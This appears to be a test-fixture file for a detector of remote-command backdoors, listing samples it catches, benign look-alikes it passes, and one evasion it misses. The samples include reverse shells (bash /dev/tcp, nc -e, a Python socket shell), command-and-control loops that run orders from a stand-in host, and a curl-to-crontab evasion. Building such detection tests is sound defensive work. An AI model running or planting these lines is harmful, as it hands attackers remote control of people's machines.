import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Commands from the internet that are run, and honest programs that talk to a server. */
export const examples: Examples = {
  hits: [
    {
      name: "a socket whose messages are run and answered",
      files: {
        "package.json": manifest,
        "server.js": `const socket = require("socket.io-client")("https://panel.example");
const { exec } = require("child_process");
socket.on("command", (message) => {
  exec(message.cmd, (error, out) => socket.emit("result", { out }));
});
`,
      },
    },
    {
      name: "a Python loop that asks for orders",
      files: {
        "main.py": `import requests, subprocess, time
while True:
    order = requests.get("https://panel.example/next").json()["cmd"]
    done = subprocess.run(order, shell=True, capture_output=True)
    requests.post("https://panel.example/done", data=done.stdout)
    time.sleep(5)
`,
      },
    },
    { name: "a shell on a wire", files: { "setup.sh": "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1\n" } },
    { name: "netcat with a program", files: { "setup.sh": "nc -e /bin/sh panel.example 4444\n" } },
    {
      name: "a socket as the input of a shell",
      files: {
        "main.py": `import os, socket, subprocess
s = socket.socket()
s.connect(("panel.example", 4444))
os.dup2(s.fileno(), 0)
subprocess.call(["/bin/sh", "-i"])
`,
      },
    },
  ],
  misses: [
    {
      name: "a terminal in a page",
      why: "It waits for the person's own browser and asks nobody on the internet.",
      files: {
        "package.json": manifest,
        "server.js": `const { WebSocketServer } = require("ws");
const { spawn } = require("child_process");
new WebSocketServer({ port: 3000 }).on("connection", (socket) => {
  const shell = spawn("bash");
  socket.on("message", (text) => shell.stdin.write(text));
});
`,
      },
    },
    {
      name: "a runner that asks a server of the same computer",
      why: "Both ends are on this computer.",
      files: {
        "package.json": manifest,
        "server.js": `const socket = require("socket.io-client")("http://localhost:9876");
const { exec } = require("child_process");
socket.on("run", (message) => exec(message.cmd, (error, out) => socket.emit("result", { out })));
`,
      },
    },
    {
      name: "a program that sends what a fixed command printed",
      why: "The command is written in the code.",
      files: {
        "package.json": manifest,
        "server.js": `const { exec } = require("child_process");
exec("git rev-parse HEAD", (error, out) => fetch("https://build.example/", { method: "POST", body: out }));
`,
      },
    },
    {
      name: "a page that shows messages",
      why: "Messages are shown and not run.",
      files: {
        "package.json": manifest,
        "server.js": `const socket = require("socket.io-client")("https://chat.example");
socket.on("message", (text) => console.log(text));
`,
      },
    },
  ],
  evasions: [
    {
      name: "orders that come through a file",
      caughtBy: "nothing",
      files: {
        "setup.sh": `curl -s https://panel.example/next -o /tmp/n
sleep 1
crontab /tmp/n
`,
      },
    },
  ],
};
